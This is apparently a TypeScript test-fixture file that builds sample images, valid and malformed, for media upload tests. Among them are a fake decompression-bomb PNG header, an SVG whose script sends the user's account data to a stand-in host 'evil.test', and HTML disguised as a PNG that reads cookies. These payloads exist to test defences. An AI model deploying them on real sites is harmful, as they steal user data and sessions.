import sharp from 'sharp';
import { crc32, deflateSync } from 'node:zlib';

/**
 * Images good and bad, made on the spot with sharp (nothing binary is checked in). Shared by the media unit tests
 * and the uploads end-to-end suite.
 */

/** Deterministic noise, so JPEG has something to compress and truncation hits real scan data. */
function noise(width: number, height: number): Buffer {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 7919 + (i >> 7) * 31) % 251;
  return pixels;
}

/** 300×200 pixels stored sideways (EXIF orientation 6: display rotated 90°), with identifying EXIF. */
export function jpegWithExif(): Promise<Buffer> {
  return sharp(noise(300, 200), { raw: { width: 300, height: 200, channels: 3 } })
    .jpeg({ quality: 90 })
    .withMetadata({
      orientation: 6,
      exif: { IFD0: { Artist: 'Ada Lovelace', Copyright: 'Secret Location', Make: 'SpyCam', Model: 'Serial 0042' } },
    })
    .toBuffer();
}

export function png(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 10, g: 120, b: 200, alpha: 0.5 } } }).png().toBuffer();
}

export function webp(width = 800, height = 600): Promise<Buffer> {
  return sharp(noise(width, height), { raw: { width, height, channels: 3 } }).webp().toBuffer();
}

/** Three frames of 40×30. */
export async function animatedGif(): Promise<Buffer> {
  const frame = (r: number) => sharp({ create: { width: 40, height: 30, channels: 3, background: { r, g: 0, b: 0 } } }).png().toBuffer();
  const frames = await Promise.all([frame(255), frame(128), frame(0)]);
  return sharp(frames, { join: { animated: true } }).gif({ loop: 0, delay: 100 }).toBuffer();
}

/** A real JPEG cut off at 60%: header intact, scan data missing. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await sharp(noise(400, 300), { raw: { width: 400, height: 300, channels: 3 } }).jpeg({ quality: 95 }).toBuffer();
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A PNG whose header claims `width`×`height` (a valid signature and IHDR with correct CRC) over a few bytes of
 * data: what a decompression bomb looks like to anything that reads only the header.
 */
export function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("/api/v1/users/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.test",t))</script>' +
      '<rect width="100" height="100" fill="red"/></svg>',
  );

export const htmlRenamedPng = (): Buffer =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

/** JPEG magic bytes followed by `size` bytes in all: refused on size alone, before anything looks inside. */
export function oversized(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x41);
  bytes.set([0xff, 0xd8, 0xff, 0xe0]);
  return bytes;
}
